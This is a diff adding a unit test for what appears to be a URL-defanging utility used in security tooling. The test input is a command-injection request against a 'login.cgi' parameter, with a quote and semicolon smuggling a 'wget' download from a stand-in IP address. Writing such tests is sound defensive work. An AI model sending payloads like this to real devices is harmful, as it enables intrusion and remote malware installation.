@@ -65,3 +65,11 @@ describe("defang", () => {
     expect(refang("hXXp://evil(.)example[dot]com/x")).toBe("http://evil.example.com/x");
   });
 });
+
+describe("defang in query strings", () => {
+  it("catches a URL glued to a percent escape", () => {
+    expect(defang("GET /login.cgi?cli=aa%27;wget%20http://198.51.100.7/r")).toBe(
+      "GET /login.cgi?cli=aa%27;wget%20hxxp://198.51.100[.]7/r",
+    );
+  });
+});
